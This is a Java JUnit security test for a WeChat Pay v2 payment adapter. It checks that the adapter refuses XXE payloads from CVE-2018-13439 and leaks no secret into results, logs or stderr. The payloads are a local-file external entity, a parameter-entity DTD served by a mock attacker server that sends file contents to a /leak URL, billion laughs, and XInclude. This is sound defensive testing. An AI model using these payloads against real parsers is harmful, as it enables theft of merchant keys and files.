package com.aggpay.router.channel.wxpay.v2;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import com.aggpay.router.channel.ChannelInstance;
import com.aggpay.router.channel.ChannelNotification;
import com.aggpay.router.channel.ChannelType;
import com.aggpay.router.channel.NotifyOutcome;
import com.aggpay.router.channel.PayWay;
import com.aggpay.router.channel.RefundNotifyOutcome;
import com.aggpay.router.channel.TradeOutcome;
import com.aggpay.router.channel.TradeRequest;
import com.sun.net.httpserver.HttpServer;
import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

/**
 * CVE-2018-13439 replayed against the v2 adapter: the payloads that read a merchant's API key from disk through the
 * old SDK's {@code xmlToMap}. Here each must be refused, with the secret marker in no result, no log line and no
 * stderr output, and without the parser reaching out to any URL.
 */
class WxPayV2XxeIT {

    private static final String MCH = "1900000003";
    private static final String APPID = "wx0000000000000003";
    private static final String KEY = "0123456789abcdefghijABCDEFGHIJ01";
    private static final String MARKER = "XXE-SECRET-MARKER-7f3a9c";

    private static Path secret;
    private static HttpServer attacker;
    private static final List<String> attackerHits = Collections.synchronizedList(new ArrayList<>());
    private static final WxPayV2Adapter adapter = new WxPayV2Adapter(Duration.ofSeconds(1), Duration.ofSeconds(2));
    private static ChannelInstance channel;

    private final ListAppender<ILoggingEvent> logs = new ListAppender<>();
    private final ByteArrayOutputStream stderr = new ByteArrayOutputStream();
    private PrintStream originalErr;

    @BeforeAll
    static void plantSecretAndAttacker() throws Exception {
        secret = Files.createTempFile("api_key", ".txt");
        Files.writeString(secret, MARKER);
        attacker = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        attacker.createContext("/", exchange -> {
            attackerHits.add(exchange.getRequestURI().toString());
            byte[] dtd = ("<!ENTITY % file SYSTEM \"" + secret.toUri() + "\">\n<!ENTITY % send \"<!ENTITY &#x25; exfil "
                    + "SYSTEM 'http://127.0.0.1:" + exchange.getLocalAddress().getPort() + "/leak?d=%file;'>\">\n%send;")
                    .getBytes(StandardCharsets.UTF_8);
            exchange.sendResponseHeaders(200, dtd.length);
            exchange.getResponseBody().write(dtd);
            exchange.close();
        });
        attacker.start();
        channel = new ChannelInstance("wxpay-v2", ChannelType.WXPAY_V2, MCH, Set.of(PayWay.WX_NATIVE), true,
                "http://127.0.0.1:" + attacker.getAddress().getPort(), "http://127.0.0.1:1/notify",
                Map.of("appid", APPID, "api_key", KEY, "sign_type", "HMAC-SHA256"));
    }

    @AfterAll
    static void cleanUp() throws Exception {
        attacker.stop(0);
        Files.deleteIfExists(secret);
    }

    @BeforeEach
    void captureOutput() {
        logs.start();
        root().addAppender(logs);
        originalErr = System.err;
        System.setErr(new PrintStream(stderr, true, StandardCharsets.UTF_8));
    }

    @AfterEach
    void restoreOutput() {
        System.setErr(originalErr);
        root().detachAppender(logs);
    }

    @Test
    void an_external_entity_reading_a_local_file_is_refused_even_when_the_rest_is_validly_signed() {
        String doctype = "<!DOCTYPE xml [<!ENTITY xxe SYSTEM \"" + secret.toUri() + "\">]>";
        assertRefusedWithoutLeak(doctype, "&xxe;");
    }

    @Test
    void a_parameter_entity_pulling_an_external_dtd_is_refused_and_nothing_is_fetched() {
        String doctype = "<!DOCTYPE xml [<!ENTITY % remote SYSTEM \"" + attackerUrl("/evil.dtd") + "\"> %remote; %exfil;]>";
        assertRefusedWithoutLeak(doctype, "x");
    }

    @Test
    void an_external_dtd_subset_is_refused_and_nothing_is_fetched() {
        assertRefusedWithoutLeak("<!DOCTYPE xml SYSTEM \"" + attackerUrl("/evil.dtd") + "\">", "x");
    }

    @Test
    void billion_laughs_is_refused_quickly() {
        StringBuilder doctype = new StringBuilder("<!DOCTYPE xml [<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            doctype.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        }
        doctype.append("]>");
        long started = System.nanoTime();
        assertRefusedWithoutLeak(doctype.toString(), "&lol9;");
        assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(2));
    }

    @Test
    void an_xinclude_of_a_local_file_reads_nothing() {
        String body = "<xml xmlns:xi=\"http://www.w3.org/2001/XInclude\"><return_code>SUCCESS</return_code>"
                + "<out_trade_no><xi:include parse=\"text\" href=\"" + secret.toUri() + "\"/></out_trade_no></xml>";
        NotifyOutcome outcome = adapter.verifyPaymentNotification(channel, notification(body));
        assertThat(outcome).isInstanceOf(NotifyOutcome.Refused.class);
        assertNoLeak(outcome.toString());
    }

    @Test
    void a_hostile_upstream_answer_is_unknown_and_leaks_nothing() {
        // the channel's base URL is the attacker's server: its answer to unifiedorder is not XML we accept
        TradeOutcome outcome = adapter.createTrade(channel, new TradeRequest("XXE" + System.nanoTime(),
                PayWay.WX_NATIVE, 100, "CNY", "Latte", null, "127.0.0.1", null, Map.of()));
        assertThat(outcome).isInstanceOf(TradeOutcome.Unknown.class);
        assertNoLeak(outcome.toString());
        attackerHits.clear(); // that call itself went to the attacker's server on purpose
    }

    /** Puts the payload's DOCTYPE before a notification whose fields are signed with the channel's real key. */
    private void assertRefusedWithoutLeak(String doctype, String outTradeNo) {
        attackerHits.clear();
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("return_code", "SUCCESS");
        fields.put("result_code", "SUCCESS");
        fields.put("appid", APPID);
        fields.put("mch_id", MCH);
        fields.put("transaction_id", "4200000000000000000000000001");
        fields.put("total_fee", "1");
        fields.put("time_end", "20261126101500");
        fields.put("nonce_str", "n");
        fields.put("out_trade_no", MARKER); // what the entity would expand to, so the sign fits the expanded text
        fields.put("sign", WxV2Signer.sign(fields, KEY, "HMAC-SHA256"));
        StringBuilder xml = new StringBuilder("<?xml version=\"1.0\"?>").append(doctype).append("<xml>");
        fields.forEach((k, v) -> xml.append('<').append(k).append('>')
                .append("out_trade_no".equals(k) ? outTradeNo : v).append("</").append(k).append('>'));
        String body = xml.append("</xml>").toString();

        NotifyOutcome payment = adapter.verifyPaymentNotification(channel, notification(body));
        assertThat(payment).isEqualTo(new NotifyOutcome.Refused("NOTIFY_MALFORMED"));
        RefundNotifyOutcome refund = adapter.verifyRefundNotification(channel, notification(body));
        assertThat(refund).isEqualTo(new RefundNotifyOutcome.Refused("NOTIFY_MALFORMED"));
        assertThat(adapter.refuse(((NotifyOutcome.Refused) payment).reason()).getBody()).doesNotContain(MARKER);
        assertNoLeak(payment.toString() + refund);
        assertThat(attackerHits).as("the parser fetched a URL").isEmpty();
    }

    private void assertNoLeak(String result) {
        assertThat(result).doesNotContain(MARKER);
        for (ILoggingEvent event : logs.list) {
            assertThat(event.getFormattedMessage()).doesNotContain(MARKER);
            if (event.getThrowableProxy() != null) {
                assertThat(event.getThrowableProxy().getMessage()).doesNotContain(MARKER);
            }
        }
        assertThat(stderr.toString(StandardCharsets.UTF_8)).doesNotContain(MARKER);
    }

    private static String attackerUrl(String path) {
        return "http://127.0.0.1:" + attacker.getAddress().getPort() + path;
    }

    private static ChannelNotification notification(String body) {
        return new ChannelNotification(Map.of(), body.getBytes(StandardCharsets.UTF_8), "text/xml");
    }

    private static Logger root() {
        return (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
    }
}
